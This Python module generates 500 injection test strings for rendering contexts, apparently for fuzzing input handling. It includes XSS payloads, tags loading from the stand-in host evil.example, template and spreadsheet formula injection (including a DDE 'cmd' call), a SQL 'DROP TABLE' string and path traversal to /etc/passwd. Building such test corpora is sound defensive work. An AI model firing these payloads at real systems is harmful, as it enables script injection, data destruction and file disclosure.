"""Five hundred strings that would do harm where text becomes markup, script, style, address, formula or template."""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"
BREAKS = ["", '"', "'", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "\\", "`", "\u2028", "%22%3E"]
TAGS = [
    f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
    f"<iframe srcdoc='<script>{CALL}</script>'>", "<iframe src=https://evil.example/>", "<link rel=stylesheet href=//evil.example/x>",
    f"<body onload={CALL}>", f"<details open ontoggle={CALL}>", f"<input autofocus onfocus={CALL}>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", f"<a href=javascript:{CALL}>x</a>", f"<math><mi xlink:href=javascript:{CALL}>",
    "<object data=https://evil.example/x>", "<embed src=https://evil.example/x>", "<img src=https://evil.example/x.png>",
    "<style>@import 'https://evil.example/x'</style>", "<style>*{background:url(https://evil.example)}</style>",
    f"<video><source onerror={CALL}>", f"<marquee onstart={CALL}>", f"<form action=javascript:{CALL}><button>x", "<template><img src=//evil.example>",
    f"<object data='data:text/html,<script>{CALL}</script>'>", f"<use href='data:image/svg+xml,<svg onload={CALL}>'>", f"<set onbegin={CALL}>",
]  # fmt: skip
OTHERS = [
    f"javascript:{CALL}", f"data:text/html,<script>{CALL}</script>", f"{{{{constructor.constructor('{CALL}')()}}}}", f"${{{CALL}}}",
    "{{7*7}}", "{%print(1)%}", "#{7*7}", "<%= 7*7 %>", "=HYPERLINK(\"https://evil.example\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "'; DROP TABLE events; --", "\" OR 1=1 --", "../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "//evil.example/x",
    "url(https://evil.example)", "expression(alert(1))", "\u202etxt.exe", "\u2066hidden\u2069", "\ufeffbom", "a\u0000b".replace("\u0000", "\\0"),
    "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e", "＜script＞", "ʺ><script>", "\U0001f4a5" * 20, "x" * 3000,
    "__proto__", "constructor", "toString", "hasOwnProperty", "NaN", "null", "undefined", "true", "-0", "1e999", "0x1", "[object Object]",
]  # fmt: skip


def strings() -> list[str]:
    """Exactly 500, each different."""
    crossed = [f"{start}>{tag}" if start else tag for start, tag in product(BREAKS, TAGS)]
    upper = [tag.swapcase() for tag in TAGS]
    spaced = [tag.replace("<", "<\t") for tag in TAGS] + [tag.replace(">", " x=1>") for tag in TAGS]
    found = list(dict.fromkeys([*OTHERS, *crossed, *upper, *spaced, *(f"{other} {TAGS[0]}" for other in OTHERS)]))
    return found[:500]
